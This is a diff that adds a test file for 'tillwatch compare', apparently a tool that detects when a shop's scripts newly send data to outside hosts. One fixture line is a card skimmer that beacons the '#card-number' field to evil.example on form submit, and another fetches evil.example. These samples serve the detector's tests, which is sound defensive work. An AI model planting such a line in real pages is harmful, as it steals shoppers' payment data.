@@ -1,0 +1,187 @@
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { type ComparisonReport, comparisonSchema } from '@tillwatch/core/changes'
+import type { ScanResult } from '@tillwatch/core/contract'
+import { afterAll, describe, expect, it } from 'vitest'
+import { readCompareArguments } from '#compare/arguments.ts'
+import { makeReport } from '#compare/make-report.ts'
+import { exitCodeOf } from '#compare/run.ts'
+import { renderComparison } from '#compare/text.ts'
+import { evaluatedScan, sha256Of, shopScript } from './compare/scans.ts'
+import { run } from './helpers.ts'
+
+const folder = mkdtempSync(join(tmpdir(), 'tillwatch-compare-'))
+const bodies = join(folder, 'bodies')
+mkdirSync(bodies)
+afterAll(() => rmSync(folder, { recursive: true, force: true }))
+
+const plainStyle = { color: false, columns: 0 }
+const put = (name: string, content: string | Uint8Array): string => {
+  const file = join(folder, name)
+  writeFileSync(file, content)
+  return file
+}
+const keep = (code: string): string => {
+  writeFileSync(join(bodies, `${sha256Of(code)}.js`), code)
+  return code
+}
+const scan = (name: string, result: ScanResult | object): string => put(name, JSON.stringify(result))
+/** The comparison and its exit code, without a process of its own. */
+const compared = (...args: string[]): { code: number; report: ComparisonReport } => {
+  const reading = readCompareArguments(args)
+  if (!reading.ok || reading.asked === 'help') throw new Error(`not asked for a comparison: ${JSON.stringify(reading)}`)
+  const report = comparisonSchema.parse(makeReport(reading.asked))
+  return { code: exitCodeOf(report), report }
+}
+
+const calm = 'function total(items) {\n  return items.length\n}\nwindow.total = total\n'
+const thief = `${calm}document.addEventListener('submit', () => navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value))\n`
+
+describe('tillwatch compare of two scripts', () => {
+  const before = put('before.js', calm)
+
+  it('says what the second can newly do, to where and in which line, and exits with 1', async () => {
+    const { code, out } = await run(['compare', before, put('after.js', thief)])
+    expect(code).toBe(1)
+    expect(out).toContain('1 change at alert level, 0 others.')
+    expect(out).toMatch(/evil\.example/)
+    expect(out).toMatch(/line 5\b/)
+    expect(out).not.toContain('\x1b')
+  })
+
+  it('exits with 0 where names alone were given out anew, and where nothing changed', () => {
+    const { code, report } = compared(before, put('renamed.js', calm.replaceAll('items', 'x')))
+    expect([code, report.changes.map(({ verdict }) => verdict)]).toEqual([0, ['rebuild']])
+    const same = compared(before, before)
+    expect([same.code, renderComparison(same.report, plainStyle)]).toEqual([0, expect.stringContaining('byte for byte')])
+  })
+
+  it('writes the same as a file, of the published shape, beside the text for people', async () => {
+    const file = join(folder, 'report.json')
+    const { code, out } = await run(['compare', before, put('other.js', thief), '--json', file])
+    expect([code, out.includes('Changes')]).toEqual([1, true])
+    const report = comparisonSchema.parse(JSON.parse(readFileSync(file, 'utf8')))
+    expect(report).toMatchObject({
+      of: 'scripts',
+      before: { sha256: sha256Of(calm), sizeBytes: calm.length },
+      summary: { alert: true, scripts: null },
+    })
+  })
+
+  it('reads bytes that are no UTF-8 as browsers do, and says so', () => {
+    const broken = put('broken.js', Buffer.concat([Buffer.from('window.name = "'), Buffer.from([0xff, 0xfe, 0x80]), Buffer.from('"\n')]))
+    const { report } = compared(before, broken)
+    expect(report.notCompared).toEqual([
+      { subject: broken, why: 'Some of its bytes are no UTF-8; they were read as replacement characters.' },
+    ])
+  })
+
+  it('ends without a stack for code that is nested deep, is one very long line, or is none', () => {
+    for (const [name, code] of [
+      ['deep.js', `${'['.repeat(200_000)}`],
+      ['long.js', `var a="${'x'.repeat(3_000_000)}"`],
+      ['none.js', '\0\0<<<%%'],
+      ['proto.js', 'var __proto__ = { constructor: { prototype: 1 } }; __proto__.__proto__'],
+    ] as const) {
+      expect([name, [0, 1].includes(compared(before, put(name, code)).code)]).toEqual([name, true])
+    }
+  })
+})
+
+describe('tillwatch compare of two scans', () => {
+  const earlier = scan('earlier.json', evaluatedScan([shopScript('app.js', keep(calm)), shopScript('ui.js', keep('var ui = 1'))]))
+
+  it('judges what changed in a script by the bodies that were kept, and exits with 1', () => {
+    const later = scan('later.json', evaluatedScan([shopScript('app.js', keep(thief)), shopScript('ui.js', 'var ui = 1')]))
+    const { code, report } = compared(earlier, later, '--bodies', bodies)
+    expect(code).toBe(1)
+    expect(report).toMatchObject({ of: 'scans', summary: { scripts: { same: 1, changed: 1, added: 0, removed: 0 } } })
+    expect(report.changes[0]).toMatchObject({ kind: 'script-changed', subject: 'shop.example/app.js' })
+    expect(report.changes[0]?.newCapabilities.join()).toContain('evil.example')
+    const out = renderComparison(report, plainStyle)
+    expect(out).toContain('Before: 2026-11-21 12:00 UTC, desktop, evaluated.')
+    expect(out).toContain('1 script the same, 1 changed, 0 new, 0 gone.')
+  })
+
+  it('exits with 0 where nothing changed, and where what changed was only built anew', () => {
+    expect(compared(earlier, earlier).code).toBe(0)
+    const rebuilt = scan(
+      'rebuilt.json',
+      evaluatedScan([shopScript('app.js', keep(calm.replaceAll('items', 'x'))), shopScript('ui.js', 'var ui = 1')]),
+    )
+    const { code, report } = compared(earlier, rebuilt, '--bodies', bodies)
+    expect([code, report.changes.map(({ verdict }) => verdict)]).toEqual([0, ['rebuild']])
+  })
+
+  it('takes no file of the folder for a body whose name is not its digest', () => {
+    const swapped = 'window.total = 2; fetch("https://evil.example/")'
+    writeFileSync(join(bodies, `${sha256Of(swapped)}.js`), calm)
+    const later = scan('swapped.json', evaluatedScan([shopScript('app.js', swapped), shopScript('ui.js', 'var ui = 1')]))
+    const { code, report } = compared(earlier, later, '--bodies', bodies)
+    expect([code, report.changes[0]?.reasons[0]?.code]).toEqual([1, 'not-judged'])
+  })
+
+  it('exits with 3 where one was not evaluated, and says why', async () => {
+    const failed = scan('failed.json', { ...evaluatedScan([]), result: 'not-evaluated', reason: { code: 'bot-wall', detail: '' } })
+    const { code, out } = await run(['compare', earlier, failed, '--bodies', bodies])
+    expect(code).toBe(3)
+    expect(out).toContain('Nothing could be compared.')
+    expect(out).toContain('The scan after was not evaluated (bot-wall).')
+    expect(compared(failed, earlier).code).toBe(3)
+  })
+
+  it('makes what a page put into names harmless for a terminal', () => {
+    const evil = evaluatedScan([
+      { ...shopScript('x.js', keep('var y = 1')), label: 'a\x1b[31mred\u202e.js', scope: 'merchant', party: 'third' },
+    ])
+    expect(renderComparison(compared(earlier, scan('evil.json', evil)).report, plainStyle)).toContain('a�[31mred�.js')
+  })
+})
+
+describe('a slip in the command line of compare', () => {
+  const script = put('a.js', calm)
+  const result = scan('a.json', evaluatedScan([]))
+  const huge = put('huge.js', '')
+  truncateSync(huge, 65 * 1024 * 1024)
+
+  it.each([
+    [[], 'Say what to compare'],
+    [[script], 'Say what to compare'],
+    [[script, script, script], 'is a third'],
+    [[script, join(folder, 'missing.js')], 'missing.js cannot be read: no such file or directory.'],
+    [[folder, script], 'is a folder; give a script, or a result of scan.'],
+    [[script, result], 'compare two of one kind'],
+    [[put('text.json', 'no json'), result], 'text.json is no JSON'],
+    [[scan('other.json', { name: 'x', version: 1 }), result], 'other.json is JSON, but no result of tillwatch scan.'],
+    [[scan('list.json', [1]), result], 'list.json is JSON, but no result of tillwatch scan.'],
+    [[scan('newer.json', { ...evaluatedScan([]), version: 9 }), result], 'was written by a newer tillwatch'],
+    [[scan('broken.json', { ...evaluatedScan([]), scripts: 'none' }), result], 'no valid result of tillwatch scan: scripts is not'],
+    [[put('latin.json', Buffer.from('{"captureId":"\xe9","version":1}', 'latin1')), result], 'latin.json is no UTF-8'],
+    [[script, huge], 'is larger than 64 MiB'],
+    [[script, script, '--bodies', bodies], '--bodies goes with results of scan'],
+    [[result, result, '--bodies', script], 'is a file; give the folder'],
+    [[result, result, '--bodies', join(folder, 'nowhere')], 'nowhere cannot be read'],
+    [[result, result, '--json', join(folder, 'nowhere', 'x.json')], 'there is no folder'],
+    [[result, result, '--bogus'], 'There is no option --bogus.'],
+    [[result, result, '--json', 'a', '--json', 'b'], '--json stands twice'],
+  ])('%j is answered by a sentence', (args, sentence) => {
+    expect(readCompareArguments(args)).toEqual({ ok: false, sentence: expect.stringContaining(sentence) })
+  })
+
+  it('is told on standard error alone, with exit code 2', async () => {
+    const { code, out, err } = await run(['compare', script])
+    expect({ code, out }).toEqual({ code: 2, out: '' })
+    expect(err).toMatch(/^Say what to compare: .*\nSee: tillwatch help compare\n$/)
+  })
+
+  it('help prints on standard output and exits with 0', async () => {
+    for (const args of [
+      ['help', 'compare'],
+      ['compare', '--help'],
+    ]) {
+      const { code, out } = await run(args)
+      expect([code, out.split('\n')[0]]).toEqual([0, 'tillwatch compare BEFORE AFTER [options]'])
+    }
+  })
+})
